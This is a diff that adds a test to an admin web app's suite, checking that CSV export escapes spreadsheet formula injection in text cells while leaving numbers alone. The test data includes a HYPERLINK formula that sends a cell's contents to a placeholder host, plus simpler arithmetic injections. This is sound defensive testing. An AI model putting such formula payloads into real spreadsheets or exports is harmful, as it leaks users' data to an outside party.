@@ -339,3 +339,16 @@ def test_users_page_creates_and_deactivates(admin, session):
     admin.post(f"/admin/users/{user.id}/deactivate")
     session.expire_all()
     assert session.get(User, user.id).active is False
+
+
+def test_admin_export_neutralises_formulas(admin, import_file):
+    """Case 14: text cells starting with = + - @ get a leading ', numbers stay as they are."""
+    import_file(CASES / "14_formula_injection.csv")
+    text = admin.get("/admin/export.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text)))
+    header = rows[0]
+    names = {r[header.index("name")] for r in rows[1:]}
+    assert "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")" in names
+    assert {"'+1+1 Example Clinic", "'-2+3 Example Clinic", "'@SUM(1;1) Example Clinic"} <= names
+    assert "-71.1066" in {r[header.index("longitude")] for r in rows[1:]}
+    assert admin.get("/admin/export-hsds.zip").headers["Content-Type"] == "application/zip"
